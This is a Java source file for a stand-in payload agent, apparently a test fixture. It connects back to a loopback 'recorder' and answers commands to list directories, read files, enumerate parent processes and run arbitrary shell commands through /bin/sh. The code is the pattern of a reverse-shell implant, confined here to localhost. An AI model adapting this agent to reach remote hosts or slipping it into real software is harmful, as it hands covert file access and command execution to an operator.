import java.io.BufferedReader;
import java.io.File;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.PrintStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import java.util.stream.Stream;

/**
 * The stand-in of a Java payload: connects to the recorder on the loopback and answers its commands
 * {@code list DIR}, {@code read FILE}, {@code processes}, {@code shell COMMAND} and {@code exit}.
 */
class Agent {
  public static void main(String[] arguments) throws IOException, InterruptedException {
    int port = Integer.parseInt(arguments[0]);
    try (Socket peer = new Socket(InetAddress.getLoopbackAddress(), port)) {
      peer.setSoTimeout(30_000);
      var commands = new BufferedReader(new InputStreamReader(peer.getInputStream()));
      var answers = new PrintStream(peer.getOutputStream(), true);
      for (String line = commands.readLine(); line != null; line = commands.readLine()) {
        String[] command = line.split(" ", 2);
        switch (command[0]) {
          case "list" -> list(new File(command[1]), answers);
          case "read" -> Files.lines(Path.of(command[1])).forEach(answers::println);
          case "processes" -> processes(answers);
          case "shell" -> shell(command[1], answers);
          default -> {
            return;
          }
        }
        answers.println(".");
      }
    }
  }

  private static void list(File folder, PrintStream answers) {
    for (File file : folder.listFiles()) {
      answers.println(file.getName() + " " + file.length() + " " + file.canWrite());
    }
  }

  private static void processes(PrintStream answers) {
    Stream.iterate(
            Optional.of(ProcessHandle.current()),
            Optional::isPresent,
            process -> process.flatMap(ProcessHandle::parent))
        .flatMap(Optional::stream)
        .forEach(process -> answers.println(process.pid() + " " + process.info()));
  }

  private static void shell(String command, PrintStream answers)
      throws IOException, InterruptedException {
    Process shell = new ProcessBuilder("/bin/sh", "-c", command).redirectErrorStream(true).start();
    try (var output = shell.inputReader()) {
      output.lines().forEach(answers::println);
    }
    shell.waitFor();
  }
}
